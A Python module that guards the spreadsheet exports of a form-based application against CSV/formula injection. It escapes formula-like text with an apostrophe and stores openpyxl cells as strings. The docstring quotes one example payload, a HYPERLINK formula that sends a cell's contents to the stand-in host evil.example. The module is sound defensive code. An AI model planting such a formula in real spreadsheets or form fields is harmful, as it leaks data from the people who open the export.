"""Safe cells for every spreadsheet export (xlsx and csv): text never becomes a formula.

A title such as `=HYPERLINK("http://evil.example/?"&A1, "Klikk")` or `+47 ...` typed into
a form would otherwise run as a formula when a coordinator opens the export
(CSV/formula injection, OWASP). Every export writes its cells through this module.
"""

from __future__ import annotations

from typing import Any

# What makes Excel, LibreOffice and Google Sheets read a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(value: Any) -> Any:
    """For CSV: text that would start a formula gets a leading apostrophe, which spreadsheet
    programs read as "this is text"; numbers, dates and other text are unchanged."""
    return "'" + value if is_formula_like(value) else value


def append_xlsx_row(sheet, row: list[Any]) -> None:
    """Append `row` to an openpyxl sheet with every text cell stored as text.

    openpyxl turns a string that starts with "=" into a formula; marking the cell as a
    string keeps the text exactly as the user wrote it, shown, never evaluated.
    """
    sheet.append(row)
    for cell in sheet[sheet.max_row]:
        if is_formula_like(cell.value):
            cell.data_type = "s"
